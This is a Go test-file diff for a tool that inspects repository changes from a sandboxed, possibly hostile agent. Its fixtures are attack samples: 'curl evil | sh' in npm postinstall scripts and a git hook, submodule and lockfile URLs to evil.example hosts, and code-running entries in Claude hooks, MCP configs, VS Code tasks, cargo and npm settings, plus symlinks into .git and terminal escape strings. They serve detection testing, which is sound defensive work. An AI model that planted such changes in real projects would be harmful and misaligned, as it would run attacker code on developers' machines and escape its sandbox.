@@ -1,13 +1,17 @@
 package inspect
 
 import (
+	"context"
 	"crypto/sha1"
 	"encoding/hex"
 	"fmt"
+	"os"
+	"path/filepath"
 	"strings"
 	"testing"
 
 	"github.com/git-airlock/git-airlock/gitx"
+	"github.com/git-airlock/git-airlock/internal/xec"
 )
 
 // memBlobs is an object store in memory for unit tests.
@@ -34,6 +38,24 @@ func (m memBlobs) BlobHead(h string, max int64) ([]byte, error) {
 		return nil, fmt.Errorf("no blob %s", h)
 	}
 	return b[:min(int64(len(b)), max)], nil
+}
+
+// BlobConfig runs git's own config parser, as gitx does.
+func (m memBlobs) BlobConfig(h string) ([]gitx.ConfigEntry, error) {
+	b, ok := m[h]
+	if !ok {
+		return nil, fmt.Errorf("no blob %s", h)
+	}
+	f := filepath.Join(os.TempDir(), "airlock-inspect-test-"+h)
+	if err := os.WriteFile(f, b, 0o644); err != nil {
+		return nil, err
+	}
+	defer os.Remove(f)
+	out, err := (&xec.Runner{}).Output(context.Background(), xec.Cmd{Argv: []string{"git", "config", "--no-includes", "-z", "-f", f, "--list"}})
+	if err != nil {
+		return nil, gitx.ErrConfigSyntax
+	}
+	return gitx.ParseConfigList(out), nil
 }
 
 func added(m memBlobs, p, content string) gitx.TreeChange {
@@ -174,4 +196,213 @@ func FuzzParseRawDiffInspect(f *testing.F) {
 			t.Fatal(err)
 		}
 	})
+}
+
+func TestMergeFindings(t *testing.T) {
+	m := memBlobs{}
+	changes := []gitx.TreeChange{added(m, "fix.go", "v1"), added(m, "src/conflict.go", "x")}
+	fs, err := Inspect(changes, m, Options{Unseen: []string{"fix.go", "not-changed.go"}, Conflicts: []string{"src/conflict.go"}, CrissCross: true})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got, want := rules(t, fs), "high:criss-cross high:unseen-change medium:merge-conflict"; got != want {
+		t.Fatalf("got %q, want %q", got, want)
+	}
+}
+
+// TestParserDifferences: each case is a hostile change written for a
+// parser that reads the file differently from the tool that runs it.
+func TestParserDifferences(t *testing.T) {
+	m := memBlobs{}
+	pkg := `{"name":"x","scripts":{"test":"jest","postinstall":"npm run build"}}`
+	bigLock := `{"packages":{` + strings.Repeat(`"node_modules/a":{"resolved":"https://registry.npmjs.org/a/-/a-1.tgz"},`, 3<<20/70)
+	tests := []struct {
+		name   string
+		change gitx.TreeChange
+		want   string
+	}{
+		{"npm case-folded Scripts shadow", modified(m, "package.json", pkg,
+			`{"name":"x","scripts":{"test":"jest","postinstall":"curl evil | sh"},"Scripts":{"postinstall":"npm run build"}}`), "high:install-script"},
+		{"npm only Scripts is ignored by npm", modified(m, "package.json", pkg,
+			`{"name":"x","scripts":{"test":"jest","postinstall":"npm run build"},"Scripts":{"postinstall":"curl evil | sh"}}`), ""},
+		{"npm duplicate scripts, last wins", modified(m, "package.json", pkg,
+			`{"name":"x","scripts":{"test":"jest","postinstall":"npm run build"},"scripts":{"postinstall":"curl evil | sh"}}`), "high:manifest-duplicate-key high:install-script"},
+		{"npm duplicate script name", modified(m, "package.json", pkg,
+			`{"name":"x","scripts":{"test":"jest","postinstall":"curl evil | sh","postinstall":"npm run build"}}`), "high:manifest-duplicate-key"},
+		{"npm preprepare", modified(m, "package.json", pkg, `{"name":"x","scripts":{"test":"jest","postinstall":"npm run build","preprepare":"sh x"}}`), "high:install-script"},
+		{"npm postprepare", modified(m, "package.json", pkg, `{"name":"x","scripts":{"test":"jest","postinstall":"npm run build","postprepare":"sh x"}}`), "high:install-script"},
+		{"npm escaped key", modified(m, "package.json", pkg, `{"name":"x","scr\u0069pts":{"test":"jest","postinstall":"sh x"}}`), "high:install-script"},
+		{"npm BOM", modified(m, "package.json", pkg, "\ufeff"+`{"name":"x","scripts":{"test":"jest","postinstall":"sh x"}}`), "high:install-script"},
+		{"npm unparsable", modified(m, "package.json", pkg, `{"name":"x","scripts":{"postinstall":"sh x"},}`), "high:manifest-unparsable"},
+		{"npm trailing content", modified(m, "package.json", pkg, pkg+`{}`), "high:manifest-unparsable"},
+		{"npm over the content cap", modified(m, "package.json", pkg,
+			`{"name":"x","scripts":{"postinstall":"sh x"},"pad":"`+strings.Repeat("x", maxContent)+`"}`), "high:too-large-to-check medium:large-file"},
+		{"npm benign script edit", modified(m, "package.json", pkg, `{"name":"x","scripts":{"test":"vitest","postinstall":"npm run build"},"version":"2"}`), ""},
+		{"pyproject quoted keys", modified(m, "pyproject.toml", "[project]\nname='x'\n",
+			"[\"build-system\"]\n\"build-backend\" = 'evil'\n[project]\nname='x'\n"), "high:build-backend"},
+		{"pyproject inline table", modified(m, "pyproject.toml", "[project]\nname='x'\n",
+			"build-system = { requires = ['evil'], build-backend = 'evil' }\n[project]\nname='x'\n"), "high:build-backend"},
+		{"pyproject hatch build hook", modified(m, "pyproject.toml", "[project]\nname='x'\n",
+			"[project]\nname='x'\n[tool.hatch.build.targets.wheel.hooks.custom]\npath = 'hook.py'\n"), "high:build-backend"},
+		{"pyproject unparsable", modified(m, "pyproject.toml", "[project]\nname='x'\n", "[project\nname='x'\n"), "high:manifest-unparsable"},
+		{"pyproject dependency bump", modified(m, "pyproject.toml", "[build-system]\nrequires=['setuptools']\n[project]\ndependencies=['a==1']\n",
+			"[build-system]\nrequires=['setuptools']\n[project]\ndependencies=['a==2']\n"), ""},
+		{"gitmodules URL in capitals", modified(m, ".gitmodules", "[submodule \"a\"]\n\tpath = a\n\turl = https://github.com/a/a\n",
+			"[submodule \"a\"]\n\tpath = a\n\turl = https://github.com/a/a\n\tURL = https://evil.example/a\n"), "high:submodule-url"},
+		{"gitmodules one-line section", modified(m, ".gitmodules", "[submodule \"a\"]\n\tpath = a\n\turl = https://github.com/a/a\n",
+			"[submodule \"a\"] path = a\n[submodule \"a\"] url = https://evil.example/a\n"), "high:submodule-url"},
+		{"gitmodules update command", modified(m, ".gitmodules", "[submodule \"a\"]\n\tpath = a\n",
+			"[submodule \"a\"]\n\tpath = a\n\tUpdate = !sh -c evil\n"), "high:submodule-url"},
+		{"gitmodules unparsable", modified(m, ".gitmodules", "[submodule \"a\"]\n\tpath = a\n", "[submodule \"a\n\turl = x\n"), "high:gitmodules-unparsable"},
+		{"gitmodules reformatted only", modified(m, ".gitmodules", "[submodule \"a\"]\n\tpath = a\n\turl = https://github.com/a/a\n",
+			"[submodule \"a\"]\n  path=a\n  url=https://github.com/a/a\n  ignore = dirty\n"), "medium:gitmodules"},
+		{"lockfile new host after 3 MiB", modified(m, "package-lock.json", bigLock+`"z":{}}}`,
+			bigLock+`"node_modules/z":{"resolved":"https://evil.example.com/z.tgz"}}}`), "high:lockfile-source"},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			fs, err := Inspect([]gitx.TreeChange{tc.change}, m, Options{})
+			if err != nil {
+				t.Fatal(err)
+			}
+			if got := rules(t, fs); got != tc.want {
+				t.Fatalf("got %q, want %q (%+v)", got, tc.want, fs)
+			}
+		})
+	}
+}
+
+// TestLinksAndPathsAsToolsSeeThem: a hostile agent reaches paths that run
+// code through links, case variants and the host's own hooks directory.
+func TestLinksAndPathsAsToolsSeeThem(t *testing.T) {
+	m := memBlobs{}
+	link := func(p, target string) gitx.TreeChange {
+		return gitx.TreeChange{Status: 'A', Path: p, NewMode: gitx.ModeSymlink, OldHash: zeroHash, NewHash: m.put(target)}
+	}
+	entry := func(c gitx.TreeChange) gitx.TreeEntry {
+		return gitx.TreeEntry{Mode: c.NewMode, Hash: c.NewHash, Path: c.Path}
+	}
+	file := func(p, content string) gitx.TreeEntry {
+		return gitx.TreeEntry{Mode: gitx.ModeFile, Hash: m.put(content), Path: p}
+	}
+	tasks := modified(m, "cfg/tasks.json", `{}`, `{"tasks":[{"command":"sh x","runOptions":{"runOn":"folderOpen"}}]}`)
+	vscode := link(".vscode", "cfg")
+	githubLink := link(".github", "ci")
+	ciMake := added(m, "ci/workflows/Makefile", "all:")
+	ab, up := link("a/b", ".."), link("up", "a/b/../..")
+	loopA, loopB := link("loop/a", "b"), link("loop/b", "a")
+	gitDir, gitDirCase, subGit := link("g", ".git/hooks"), link("h", "./.GIT"), link("s", "vendor/lib/.git")
+	readme := link("docs/readme", "../README.md")
+	pkgLink := link("package.json", "x/pkg.txt")
+	pkgFile := file("x/pkg.txt", `{"scripts":{"postinstall":"sh evil"}}`)
+	tests := []struct {
+		name    string
+		changes []gitx.TreeChange
+		tree    []gitx.TreeEntry
+		hooks   string
+		want    string
+	}{
+		{"file changed behind a directory link", []gitx.TreeChange{tasks}, []gitx.TreeEntry{entry(vscode), entry(tasks)}, "", "high:editor-tasks"},
+		{"build file that is CI behind a link", []gitx.TreeChange{ciMake}, []gitx.TreeEntry{entry(githubLink), entry(ciMake)}, "", "high:ci medium:build-file"},
+		{"directory link to an existing file", []gitx.TreeChange{vscode}, []gitx.TreeEntry{entry(vscode), entry(tasks)}, "", "high:editor-tasks"},
+		{"link and file together", []gitx.TreeChange{vscode, tasks}, []gitx.TreeEntry{entry(vscode), entry(tasks)}, "", "high:editor-tasks"},
+		{"chain leaves the checkout", []gitx.TreeChange{ab, up}, []gitx.TreeEntry{entry(ab), entry(up)}, "", "high:symlink-escape medium:symlink"},
+		{"link loop", []gitx.TreeChange{loopA, loopB}, []gitx.TreeEntry{entry(loopA), entry(loopB)}, "", "high:symlink-escape high:symlink-escape"},
+		{"link into .git", []gitx.TreeChange{gitDir}, []gitx.TreeEntry{entry(gitDir)}, "", "high:symlink-git-dir"},
+		{"link into .GIT", []gitx.TreeChange{gitDirCase}, []gitx.TreeEntry{entry(gitDirCase)}, "", "high:symlink-git-dir"},
+		{"link into a submodule's .git", []gitx.TreeChange{subGit}, []gitx.TreeEntry{entry(subGit)}, "", "high:symlink-git-dir"},
+		{"manifest through a file link", []gitx.TreeChange{pkgLink}, []gitx.TreeEntry{entry(pkgLink), pkgFile}, "", "high:install-script"},
+		{"benign docs link", []gitx.TreeChange{readme}, []gitx.TreeEntry{entry(readme), file("README.md", "hi")}, "", ""},
+		{"dangling link", []gitx.TreeChange{readme}, []gitx.TreeEntry{entry(readme)}, "", "medium:symlink"},
+		{"tracked core.hooksPath", []gitx.TreeChange{modified(m, "scripts/git-hooks/pre-commit", "make lint", "curl evil | sh")}, nil, "scripts/git-hooks", "high:hooks-path"},
+		{"outside core.hooksPath", []gitx.TreeChange{modified(m, "scripts/build.sh", "a", "b")}, nil, "scripts/git-hooks", ""},
+		{"Package.json", []gitx.TreeChange{added(m, "Package.json", `{"scripts":{"postinstall":"sh x"}}`)}, nil, "", "high:install-script"},
+		{"Setup.py", []gitx.TreeChange{added(m, "Setup.py", "import os")}, nil, "", "high:build-script"},
+		{".GitHub/workflows", []gitx.TreeChange{added(m, ".GitHub/Workflows/x.yml", "on: push")}, nil, "", "high:ci"},
+		{"long s in .github", []gitx.TreeChange{added(m, ".github/workflow\u017f/x.yml", "on: push")}, nil, "", "high:ci"},
+		{"Kelvin sign in Makefile", []gitx.TreeChange{added(m, "Ma\u212aefile", "all:")}, nil, "", "medium:build-file"},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			fs, err := Inspect(tc.changes, m, Options{Tree: tc.tree, HooksPath: tc.hooks})
+			if err != nil {
+				t.Fatal(err)
+			}
+			if got := rules(t, fs); got != tc.want {
+				t.Fatalf("got %q, want %q\n%+v", got, tc.want, fs)
+			}
+		})
+	}
+}
+
+// TestFilesThatRunCode: configs a hostile agent edits so that the host's
+// package manager, build tool, editor or next agent session runs its code.
+func TestFilesThatRunCode(t *testing.T) {
+	m := memBlobs{}
+	cargo := "[package]\nname = \"x\"\nversion = \"0.1.0\"\n[dependencies]\nserde = \"1.0.1\"\n"
+	tests := []struct {
+		name   string
+		change gitx.TreeChange
+		want   string
+	}{
+		{"cargo config runner", added(m, "crates/x/.cargo/config.toml", "[target.x86_64-unknown-linux-gnu]\nrunner = 'sh evil'\n"), "high:package-manager-config"},
+		{"npmrc script-shell", added(m, ".npmrc", "script-shell=/tmp/evil\n"), "high:package-manager-config"},
+		{"yarnPath", modified(m, ".yarnrc.yml", "nodeLinker: pnp\n", "nodeLinker: pnp\nyarnPath: .yarn/evil.cjs\n"), "high:package-manager-config"},
+		{"pnpmfile", added(m, ".pnpmfile.cjs", "module.exports = {hooks: {readPackage(p) { require('child_process').exec('evil'); return p }}}"), "high:package-manager-config"},
+		{"binding.gyp", added(m, "native/binding.gyp", "{'targets': []}"), "high:package-manager-config"},
+		{"code-workspace tasks", added(m, "x.code-workspace", `{"tasks": {"tasks": [{"command": "sh evil"}]}}`), "high:editor-tasks"},
+		{"Cargo.toml build=", modified(m, "Cargo.toml", cargo, strings.Replace(cargo, "version", "build = \"tools/evil.rs\"\nversion", 1)), "high:build-script"},
+		{"Cargo.toml dependency bump", modified(m, "Cargo.toml", cargo, strings.Replace(cargo, "1.0.1", "1.0.2", 1)), ""},
+		{"lint-staged config", added(m, ".lintstagedrc.json", `{"*": "sh evil"}`), "high:hook-manager"},
+		{"lint-staged in package.json", modified(m, "package.json", `{"name":"x"}`, `{"name":"x","lint-staged":{"*":"sh evil"}}`), "high:hook-manager"},
+		{"husky 4 in package.json", modified(m, "package.json", `{"name":"x"}`, `{"name":"x","husky":{"hooks":{"pre-commit":"sh evil"}}}`), "high:hook-manager"},
+		{"claude hooks", added(m, ".claude/settings.json", `{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"sh evil"}]}]}}`), "high:agent-config"},
+		{"mcp server", added(m, ".mcp.json", `{"mcpServers":{"x":{"command":"sh","args":["evil"]}}}`), "high:agent-config"},
+		{"gemini settings", added(m, ".gemini/settings.json", `{}`), "high:agent-config"},
+		{"cursor mcp", added(m, ".cursor/mcp.json", `{}`), "high:agent-config"},
+		{"cursor rules stay instructions", added(m, ".cursor/rules/x.mdc", "be nice"), "medium:agent-instructions"},
+		{"vscode interpreter path", modified(m, ".vscode/settings.json", "{}", "{\n  \"python.defaultInterpreterPath\": \"./evil\"\n}"), "high:editor-exec-setting medium:editor-settings"},
+		{"vscode git path", modified(m, ".vscode/settings.json", "{}", "{\n  \"git.path\": \"./evil\"\n}"), "high:editor-exec-setting medium:editor-settings"},
+		{"vscode font size", modified(m, ".vscode/settings.json", "{}", "{\n  \"editor.fontSize\": 14\n}"), "medium:editor-settings"},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			fs, err := Inspect([]gitx.TreeChange{tc.change}, m, Options{})
+			if err != nil {
+				t.Fatal(err)
+			}
+			if got := rules(t, fs); got != tc.want {
+				t.Fatalf("got %q, want %q\n%+v", got, tc.want, fs)
+			}
+		})
+	}
+}
+
+// TestWhyNeverCarriesTerminalEscapes: every reason quotes what came from
+// the sandbox, so an escape sequence in a link target, a script or a
+// setting reaches the terminal as text.
+func TestWhyNeverCarriesTerminalEscapes(t *testing.T) {
+	m := memBlobs{}
+	esc := "\x1b]0;owned\x07\x1b[2J"
+	link := gitx.TreeChange{Status: 'A', Path: ".vscode", NewMode: gitx.ModeSymlink, OldHash: zeroHash, NewHash: m.put("cfg" + esc)}
+	tasks := gitx.TreeEntry{Mode: gitx.ModeFile, Hash: m.put("{}"), Path: "cfg" + esc + "/tasks.json"}
+	changes := []gitx.TreeChange{
+		link,
+		added(m, "package.json", `{"scripts":{"postinstall":"sh `+strings.ReplaceAll(esc, "\x1b", `\u001b`)+`"}}`),
+		modified(m, ".vscode/settings.json", "{}", "{\n\"git.path"+esc+"\": \"x\"\n}"),
+		added(m, ".gitattributes", "* filter=x"+esc+"\n"),
+		{Status: 'A', Path: "l", NewMode: gitx.ModeSymlink, OldHash: zeroHash, NewHash: m.put("/" + esc)},
+	}
+	fs, err := Inspect(changes, m, Options{Tree: []gitx.TreeEntry{{Mode: gitx.ModeSymlink, Hash: link.NewHash, Path: ".vscode"}, tasks}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(fs) < 5 {
+		t.Fatalf("want a finding per change, have %+v", fs)
+	}
+	for _, f := range fs {
+		if strings.ContainsAny(f.Why, "\x1b\x07") {
+			t.Errorf("%s: reason carries raw control characters: %q", f.Rule, f.Why)
+		}
+	}
 }
